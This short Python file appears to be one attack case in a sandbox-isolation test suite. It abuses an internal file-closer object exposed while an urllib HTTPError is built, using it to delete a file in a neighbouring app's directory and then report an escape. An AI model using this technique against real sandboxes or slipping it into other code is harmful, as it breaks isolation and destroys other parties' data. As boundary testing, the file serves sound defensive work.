"""No app removes a file by what an HTTP error keeps to close it."""

CLASS = "files"
BOUNDARY = "both"
NEEDS = ("urllib.error",)


import urllib.error

from target import NEIGHBOUR

kept = {}


class File:
    def close(self):
        pass

    read = close


class Error(urllib.error.HTTPError):
    def __setattr__(self, name, value):
        kept[name] = value
        super().__setattr__(name, value)


def attack():
    Error("x", 500, "x", {}, File())
    type(kept["_closer"])(File(), NEIGHBOUR + "/to-delete", True).close()
    return "ESCAPED: removed"
